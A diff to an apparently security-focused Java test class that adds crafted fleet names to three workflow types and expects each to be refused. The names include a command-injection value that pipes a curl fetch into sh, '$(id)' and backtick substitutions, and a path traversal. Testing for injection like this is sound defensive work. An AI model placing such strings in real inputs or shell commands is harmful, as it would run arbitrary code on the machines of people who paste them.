@@ -40,6 +40,7 @@ final class CraftedInputs {
     inputs.endpoints();
     inputs.timing();
     inputs.names();
+    inputs.fleetNames();
     inputs.snapshots();
     inputs.beforeImages();
     return inputs.attacks;
@@ -88,6 +89,34 @@ final class CraftedInputs {
     }
     fresh("a fleet that is a path", "fleet", "\"../../cluster/{outside}\"");
     fresh("a wave that is a path", "wave", "\"../..\"");
+  }
+
+  /** The name of a fleet becomes a part of commands that people paste into a shell. */
+  private void fleetNames() {
+    for (String name :
+        List.of(
+            "payments; curl {canary}|sh #",
+            "$(id)",
+            "`id`",
+            "a\\nb",
+            "../cluster/{outside}",
+            "")) {
+      for (String type : List.of("FleetWorkflow", "PlanWorkflow", "DriftWorkflow")) {
+        attacks.add(
+            new Attack(
+                type + " named " + (name.isEmpty() ? "nothing" : name),
+                ClusterSituation.FRESH,
+                Verdict.REFUSED,
+                (client, victim, workflowId) ->
+                    client.start(
+                        type,
+                        workflowId,
+                        RawClient.with(
+                            RawClient.fleet(RawClient.targetJson(victim)),
+                            "name",
+                            '"' + client.filled(name, victim) + '"'))));
+      }
+    }
   }
 
   private void snapshots() {
